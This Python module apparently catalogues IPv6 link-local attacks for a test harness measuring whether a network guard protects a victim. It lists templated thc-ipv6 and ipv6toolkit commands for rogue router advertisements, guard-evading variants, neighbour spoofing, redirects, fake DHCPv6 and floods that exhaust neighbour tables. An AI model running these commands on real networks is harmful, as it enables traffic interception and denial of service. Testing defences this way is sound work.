"""The attacks with stock tools, as data: what is run, what the victim does meanwhile, and what it suffers unguarded.

In commands: {if} the attacker's interface, {ll} its link-local, {victim}, {victim-ll}, {victim-mac}, {alice}, {alice-ll},
{alice-mac} honest guests, {gw} the router's link-local, {gw-mac} its MAC, {prefix} the segment's /64 without "::/64",
{world} an address behind the router, {mac} a MAC that nobody has.
"""
import dataclasses


@dataclasses.dataclass(frozen=True)
class Attack:
    """One attack.

    effect: what the victim suffers when nothing guards, besides frames that arrive: `arrives` (nothing in Linux: other
    systems are the target), `router` (a new route or prefix), `resolver`, `no-router`, `neighbour`, `duplicate`, `mtu`,
    `redirected`, `listening` (frames arrive as answers to what the victim asks), `lawful` (each frame is one that a guest
    may send: only their number hurts, and limits are the answer; with the guard the victim must still not change).
    meanwhile: what the victim does: `resolve`, `join`, `dhcp`, `talk`, or nothing.
    at: where its frames are counted: at the `victim`'s port, or at the `gateway`'s, which is then the victim.
    """

    name: str
    command: str
    effect: str = "arrives"
    meanwhile: str = ""
    seconds: float = 0.5
    flood: bool = False
    at: str = "victim"
    long: bool = False


def _router_advertisements():
    rogue = "-A 2001:db8:bad::/64 -D 2001:db8:bad::53 -R 2001:db8:bad:1::/64 -n 1"
    for flags in ("", "-H", "-F", "-D"):
        yield Attack(f"fake_router6 {flags}".strip(), f"atk6-fake_router6 {flags} {{if}} 2001:db8:bad::/64 2001:db8:bad::53",
                     "router" if flags in ("", "-H") else "arrives")
    evasions = ("", "F", "H", "1", "11", "111", "D", "O", "o", "H1", "HH", "HHH", "H11", "H111", "HD", "HO", "Ho")
    short = {"", "F", "H", "1", "111", "D", "O", "o", "H1", "H111", "HD"}
    for e in evasions:
        yield Attack(f"fake_router26 {'-E ' + e if e else ''}".strip(), f"atk6-fake_router26 {'-E ' + e if e else ''} {rogue} {{if}}",
                     "router" if e in ("", "H", "1", "H1") else "arrives", long=e not in short)
    yield Attack("fake_router26 to the victim alone", f"atk6-fake_router26 {rogue} -m {{victim-mac}} {{if}}", "router")
    yield Attack("fake_router26 with the router's address", f"atk6-fake_router26 {rogue} -s {{gw}} {{if}}", "router")
    yield Attack("fake_router26 with the router's address and MAC", f"atk6-fake_router26 {rogue} -s {{gw}} -S {{gw-mac}} -f {{gw-mac}} {{if}}", "router")
    yield Attack("fake_router26, MTU 1280", f"atk6-fake_router26 -M 1280 -s {{gw}} {rogue} {{if}}", "mtu")
    # Not -D: thc-ipv6 3.8 ends in a segmentation fault there, and its -G sends nothing; `frames` has such headers.
    for flags in ("", "-a", "-H", "-f", "-F", "-a -H", "-H -f", "-a -H -f", "-R", "-P", "-A", "-m -s"):
        yield Attack(f"flood_router26 {flags}".strip(), f"atk6-flood_router26 {flags} {{if}}",
                     "router" if flags in ("", "-a", "-H", "-R", "-P", "-m -s") else "arrives",
                     seconds=0.3, flood=True, long=flags in ("-a -H", "-H -f", "-R", "-P", "-m -s"))
    for flags in ("", "-H", "-F", "-D"):
        yield Attack(f"flood_router6 {flags}".strip(), f"atk6-flood_router6 {flags} {{if}}", seconds=0.3, flood=True, long=flags != "")
    for flags in ("", "-H", "-F", "-D"):
        yield Attack(f"kill_router6 {flags}".strip(), f"atk6-kill_router6 {flags} {{if}} {{gw}}", "no-router" if flags in ("", "-H") else "arrives")
    yield Attack("kill_router6 with the router's MAC", "atk6-kill_router6 {if} {gw} {gw-mac}", "no-router")


def _toolkit():
    """SI6 Networks' tools (ipv6toolkit)."""
    yield Attack("ra6", "ra6 -i {if} -s {ll} -d ff02::1 -P 2001:db8:bad::/64#LA#3600#3600 -t 1800 -e", "router")
    yield Attack("ra6, fragments of 16 bytes", "ra6 -i {if} -s {ll} -d ff02::1 -y 16 -t 1800 -P 2001:db8:bad::/64#LA#3600#3600 -e")
    yield Attack("ra6, destination options", "ra6 -i {if} -s {ll} -d ff02::1 -u 24 -t 1800 -P 2001:db8:bad::/64#LA#3600#3600 -e")
    yield Attack("ra6, hop-by-hop options, unfragmentable options and fragments", "ra6 -i {if} -s {ll} -d ff02::1 -y 24 -U 24 -H 24 -t 1800 -e")
    yield Attack("na6", "na6 -i {if} -s {ll} -d {victim-ll} -t {alice} -o -E {mac}", "neighbour")
    yield Attack("na6, fragments of 16 bytes", "na6 -i {if} -s {ll} -d {victim-ll} -t {alice} -o -E {mac} -y 16")
    yield Attack("ns6 in a neighbour's name", "ns6 -i {if} -s {alice-ll} -d {victim-ll} -t {victim-ll} -E {mac}", "neighbour")
    yield Attack("rd6", "rd6 -i {if} -s {gw} -d {victim} -r {world} -t {ll} -E {mac}", "arrives")
    yield Attack("rs6 in a neighbour's name", "rs6 -i {if} -s {alice-ll} -d ff02::2 -E {mac}")


def _neighbours():
    for flags in ("", "-r", "-H", "-f", "-D", "-F"):
        yield Attack(f"fake_advertise6 {flags}".strip(), f"atk6-fake_advertise6 {flags} -n 1 {{if}} {{alice}} {{victim-ll}}",
                     "neighbour" if flags in ("", "-r", "-H") else "arrives")
    yield Attack("fake_advertise6 of the router", "atk6-fake_advertise6 -n 1 {if} {gw} {victim-ll}", "neighbour")
    yield Attack("fake_advertise6 of the router, true source", "atk6-fake_advertise6 -n 1 {if} {gw} {victim-ll} {mac} {ll}", "neighbour")
    for flags in ("", "-F", "-H", "-D"):
        yield Attack(f"fake_solicitate6 {flags}".strip(), f"atk6-fake_solicitate6 {flags} {{if}} {{victim}} {{victim}} {{mac}} {{alice}}",
                     "neighbour" if flags in ("", "-H") else "arrives")
    yield Attack("parasite6", "atk6-parasite6 {if}", "neighbour", "resolve", 1.2)
    yield Attack("parasite6 -l -R", "atk6-parasite6 -lR {if}", "neighbour", "resolve", 1.2, long=True)
    yield Attack("parasite6 -F", "atk6-parasite6 -F {if}", "listening", "resolve", 1.2)
    yield Attack("parasite6 -H", "atk6-parasite6 -H {if}", "neighbour", "resolve", 1.2)
    yield Attack("parasite6 -D", "atk6-parasite6 -D {if}", "listening", "resolve", 1.2, long=True)
    yield Attack("parasite6 with a MAC of nobody", "atk6-parasite6 {if} {mac}", "neighbour", "resolve", 1.2)
    yield Attack("dos-new-ip6", "atk6-dos-new-ip6 {if}", "duplicate", "join", 1.6)
    yield Attack("dos-new-ip6 -S", "atk6-dos-new-ip6 -S {if}", "duplicate", "join", 1.6)
    for flags in ("", "-k", "-m {mac}"):
        yield Attack(f"flood_advertise6 {flags}".strip(), f"atk6-flood_advertise6 {flags} {{if}} {{victim-ll}}", seconds=0.3, flood=True, long=flags == "-m {mac}")
        yield Attack(f"flood_solicitate6 {flags}".strip(), f"atk6-flood_solicitate6 {flags} {{if}} {{victim-ll}} {{victim-ll}}", seconds=0.3, flood=True, long=flags == "-m {mac}")
    yield Attack("flood_solicitate6 -a", "atk6-flood_solicitate6 -a {if} {victim-ll} {victim-ll}", seconds=0.3, flood=True)
    yield Attack("flood_rs6 -s", "atk6-flood_rs6 -s {if} {victim-ll}", seconds=0.3, flood=True)
    yield Attack("flood_rs6 -S", "atk6-flood_rs6 -S {if} {victim-ll}", seconds=0.3, flood=True)


def _paths():
    yield Attack("redir6", "atk6-redir6 {if} {victim} {world} {gw} {ll}", "redirected", "talk")
    yield Attack("redir6 to a MAC of nobody", "atk6-redir6 {if} {victim} {world} {gw} {ll} {mac}", "redirected", "talk")
    for flags in ("", "-H", "-F", "-D", "-a"):
        yield Attack(f"flood_redir6 {flags}".strip(), f"atk6-flood_redir6 {flags} {{if}} {{victim}} {{gw}}", seconds=0.3, flood=True, long=flags in ("-H", "-D"))
    yield Attack("toobig6", "atk6-toobig6 {if} {victim} {alice} 1290", "mtu", "talk")
    yield Attack("toobig6 -u", "atk6-toobig6 -u {if} {victim} {alice} 1290", "mtu", "talk")
    for flags in ("", "-H", "-F", "-D", "-p", "-h", "-r", "-R"):
        yield Attack(f"flood_unreach6 {flags}".strip(), f"atk6-flood_unreach6 {flags} {{if}} {{victim}}", "lawful" if flags in ("", "-p", "-h") else "arrives", seconds=0.6, flood=True, long=flags in ("-p", "-h", "-D"))
    yield Attack("rsmurf6", "atk6-rsmurf6 {if} {victim}", seconds=0.3, flood=True)
    yield Attack("rsmurf6 ff02::1", "atk6-rsmurf6 {if} ff02::1", seconds=0.3, flood=True)
    yield Attack("smurf6", "atk6-smurf6 {if} {victim}", seconds=0.3, flood=True)
    yield Attack("denial6, large destination options", "atk6-denial6 {if} {victim} 2", seconds=0.3, flood=True)


def _services():
    yield Attack("fake_dhcps6", "atk6-fake_dhcps6 {if} 2001:db8:bad::/64 2001:db8:bad::53", "listening", "dhcp", 1.2)
    yield Attack("fake_dhcps6 in the router's name", "atk6-fake_dhcps6 {if} 2001:db8:bad::/64 2001:db8:bad::53 {gw} {gw-mac}", "listening", "dhcp", 1.2)
    yield Attack("flood_dhcpc6", "atk6-flood_dhcpc6 {if}", seconds=0.3, flood=True)
    yield Attack("fake_mld6 query", "atk6-fake_mld6 {if} query ff02::1")
    yield Attack("fake_mld6 add in a neighbour's name", "atk6-fake_mld6 {if} add ff02::1:3 1 {alice-ll}")
    yield Attack("fake_mld6 delete in a neighbour's name", "atk6-fake_mld6 {if} delete ff02::1:3 1 {alice-ll}")
    yield Attack("fake_mld26 query", "atk6-fake_mld26 {if} query")
    yield Attack("fake_mld26 add in a neighbour's name", "atk6-fake_mld26 {if} add ff02::1:3 ff02::16 1 {alice-ll}")
    yield Attack("fake_mld26 delete in a neighbour's name", "atk6-fake_mld26 {if} delete ff02::1:3 ff02::16 1 {alice-ll}")
    for word in ("advertise", "solicitate", "terminate"):
        yield Attack(f"fake_mldrouter6 {word}", f"atk6-fake_mldrouter6 {{if}} {word}")
    yield Attack("flood_mldrouter6", "atk6-flood_mldrouter6 {if}", seconds=0.3, flood=True)
    yield Attack("flood_mld6", "atk6-flood_mld6 {if}", seconds=0.3, flood=True)
    yield Attack("flood_mld26", "atk6-flood_mld26 {if}", seconds=0.3, flood=True)
    yield Attack("fake_pim6 hello", "atk6-fake_pim6 -s {gw} {if} hello", long=True)
    yield Attack("fake_mipv6", "atk6-fake_mipv6 {if} {alice} {victim} {ll}", long=True)


def _neighbour_tables():
    """Last: what they leave in the kernel's one neighbour table hinders everything for a while."""
    for flags in ("", "-p", "-R", "-s {alice}", "-P", "-T", "-U", "-m", "-r", "-a"):
        yield Attack(f"ndpexhaust26 {flags}".strip(), f"atk6-ndpexhaust26 {flags} {{if}} {{prefix}}::/64", "lawful" if flags in ("-p", "-P") else "arrives",
                     seconds=2.5, flood=True, at="gateway", long=flags in ("-P", "-T", "-U", "-m", "-r", "-a"))


TOOLS = [*_router_advertisements(), *_toolkit(), *_neighbours(), *_paths(), *_services(), *_neighbour_tables()]
